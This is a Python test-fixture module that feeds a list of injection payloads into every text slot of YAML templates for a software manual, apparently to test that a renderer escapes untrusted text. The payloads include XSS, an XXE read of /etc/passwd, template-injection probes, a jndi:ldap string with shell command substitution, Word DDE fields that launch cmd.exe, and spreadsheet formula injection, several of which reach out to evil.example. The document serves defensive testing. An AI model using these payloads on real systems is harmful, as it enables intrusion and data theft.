"""Hostile texts, and a manual with a slot for each place where a writer's text can stand."""

import json
import re
from collections.abc import Iterator

# What breaks out of HTML, of attributes, of style sheets, of scripts, of XML, of drawings, of
# templates, of fields of Word, of addresses, of formats, and what text itself may do.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='http://evil.example/x#y'/></svg>",
    '"><iframe src=http://evil.example>',
    "' autofocus onfocus=alert(1) x='",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "<?xml-stylesheet href='http://evil.example/x.xsl'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp; &nbsp;",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'><link rel=stylesheet href=//evil.example>",
    "<form action=http://evil.example><input name=a></form>",
    "<a href=javascript:alert(1)>press</a>",
    "javascript:alert(1)",
    "[press](javascript:alert(1))",
    "[press](data:text/html,<script>alert(1)</script>)",
    "[press](file:///etc/passwd)",
    "[press](//evil.example/x)",
    '[press](https://user:pw@evil.example/?a=<b>&c="d")',
    "[press](vbscript:msgbox(1))",
    "}</style>{background:url(http://evil.example/x)}",
    "\"; background: url('http://evil.example/x'); @import 'http://evil.example/y';",
    "\\3c script\\3e ",
    "{{ 7 * 7 }}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for a in range(10**9) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a} $(id) `id` %x%n%s %(a)s {0.__class__}",
    "</w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:p>",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '/k calc' }",
    '{ INCLUDETEXT "http://evil.example/a.docx" }',
    "</text></svg><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    'url(#a)" filter="url(http://evil.example/f.svg#b)',
    '=HYPERLINK("http://evil.example","press")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u212a\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u2039\u203a",
    "e" + "\u0301" * 60,
    "\U000e0041\U000e0042 \ufdfd \u0e33\u0e33 \U0001f9d1\u200d\U0001f680",
    "../../../etc/passwd C:\\windows\\system32 \\\\evil.example\\share",
    "a" * 199,
    "\u202ereversed",
    "zero\u200bwidth",
    "\x1b[2J::error file=a::b",
)  # fmt: skip

# `@name@` is a slot. Each stands on a line of its own, so that a diagnostic tells its name.
MANUAL = """\
id: NAME
language: en
title: @manual-title@
subtitle: @subtitle@
publisher: @publisher@
published: 2026-11-23
feedback: help@example.jp
terms:
  thing: @term@
fields:
  customer:
    label: @field-label@
    default: @field-default@
audiences:
  user: @audience@
about:
  - @manual-about@
notes:
  - @manual-note@
procedures: [NAME]
"""
PROCEDURE = """\
id: NAME
title: @title@
audience: user
applies_to: {device: iPhone, os: iOS}
verified:
  - {on: 2026-11-01, device: iPhone 13, os: iOS 16.1, by: @by@}
about:
  - @about@
prerequisites:
  - @prerequisite@
safety:
  - signal: warning
    hazard: @hazard@
    consequence: @consequence@
    avoidance: @avoidance@
    owner: @owner@
steps:
  - id: first
    do: @do@
    sees: @sees@
    notes: @note@
    figure:
      screen: shown
      alt: @figure-alt@
      caption: @caption@
      number:
        - words: Go
          legend: @legend@
  - id: second
    do: "See **{thing}** and `{thing}` and [{thing}](https://example.jp/) for {customer}."
    figure:
      screen: other
result: @result@
screens:
  shown:
    title: @screen-title@
    back: @back@
    status: @status@
    says:
      - heading: @heading@
      - text: @text@
      - link: @link@
      - row: @row@
        value: @value@
      - toggle: @toggle@
        on: yes
      - field: @field@
      - check: @check@
        on: no
      - button: Go
      - button: @button@
  other:
    title: Other
    address: @address@
    says:
      - text: Nothing
    dialog:
      - text: @dialog@
"""
SLOTS = tuple(re.findall(r"@([a-z-]+)@", MANUAL + PROCEDURE))
_SIGNS = re.compile(r"[\\`*{}\[\]【】]")


def written(template: str, name: str, values: dict[str, str]) -> str:
    """Return a file with these texts in its slots; the harmless text in those that have none."""
    filled = re.sub(r"@([a-z-]+)@", lambda it: quoted(values.get(it[1], "harmless")), template)
    return filled.replace("NAME", name)


def quoted(text: str) -> str:
    """Return a text as YAML holds it; what no file holds as it is, as an escape."""
    made = json.dumps(text, ensure_ascii=False)
    return re.sub("[\ud800-\udfff]", lambda it: f"\\u{ord(it[0]):04x}", made)


def slot_at(template: str, line: int) -> str:
    """Return the slot on a line of a template, counted from 1; "" where there is none."""
    found = re.search(r"@([a-z-]+)@", template.split("\n")[line - 1])
    return found[1] if found else ""


def spelled(text: str) -> str:
    """Return a text with a backslash before each sign of our marks: it is to stand there so."""
    return _SIGNS.sub(r"\\\g<0>", text)


def cases() -> Iterator[tuple[str, str, str]]:
    """Yield name, text and slot of each case: each text in each slot, as it is and spelled out."""
    for number, payload in enumerate(PAYLOADS):
        for name, text in ((f"raw-{number}", payload), (f"spelled-{number}", spelled(payload))):
            if text != payload or name.startswith("raw"):
                yield from ((name, text, slot) for slot in SLOTS)
